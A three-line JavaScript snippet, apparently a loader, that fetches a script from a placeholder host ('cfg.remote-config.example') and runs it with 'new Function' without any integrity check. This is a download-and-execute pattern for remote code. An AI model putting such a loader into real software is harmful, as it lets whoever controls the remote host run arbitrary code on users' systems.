const src = 'https://cfg.remote-config.example/app.js';
const code = await (await fetch(src)).text();
new Function(code)();
